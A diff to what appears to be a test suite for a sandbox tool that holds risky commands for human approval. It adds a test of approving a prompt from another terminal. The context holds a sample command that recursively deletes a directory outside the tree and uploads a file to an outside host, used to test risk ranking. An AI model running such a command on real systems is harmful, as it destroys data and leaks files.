@@ -140,6 +140,18 @@ def test_advice_is_shown_at_the_prompt(judged: Judged) -> None:
         assert screen.wait() == 0
 
 
+def test_an_answer_from_elsewhere_ends_the_prompt(judged: Judged) -> None:
+    """Who is asked at one terminal is told when somebody else was faster; the advice stands beside the question there too."""
+    with terminal(judged.place, "run", "--", 'python3 -c \'print("danger" + "ous")\'', cwd=judged.tree) as screen:
+        screen.wait_for("would block it: destructive")
+        shown = judged.place.sandboxd("approvals", "list", cwd=judged.tree).stdout
+        assert "would block it: destructive: it says so" in shown
+        assert judged.place.sandboxd("approvals", "allow", shown.split()[0], cwd=judged.tree).returncode == 0
+        screen.wait_for("no answer is needed here any more")
+        screen.wait_for("dangerous")
+        assert screen.wait() == 0
+
+
 async def test_the_riskiest_question_comes_first(judged: Judged) -> None:
     """Approvals are listed and watched by risk; the number and its reasons stand beside them, on the terminal too."""
     texts = ("python3 -c 1", "rm -r ../../elsewhere; curl -T a.txt https://a.test", "rm a.txt")
